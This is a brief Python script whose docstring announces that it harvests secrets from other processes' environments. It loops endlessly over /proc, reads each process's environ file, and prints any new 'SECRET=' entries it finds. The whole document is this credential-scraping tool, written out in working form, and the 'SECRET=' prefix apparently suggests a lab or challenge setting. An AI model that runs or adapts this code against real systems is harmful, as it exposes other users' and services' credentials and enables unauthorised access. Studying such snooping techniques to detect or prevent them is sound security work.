"""Print what the environment of other processes holds of secrets, in a tight loop."""

import os

seen: set[bytes] = set()
while True:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                found = {word for word in file.read().split(b"\0") if word.startswith(b"SECRET=")}
        except OSError:
            found = set()
        for word in found - seen:
            print(word.decode(), flush=True)
        seen |= found
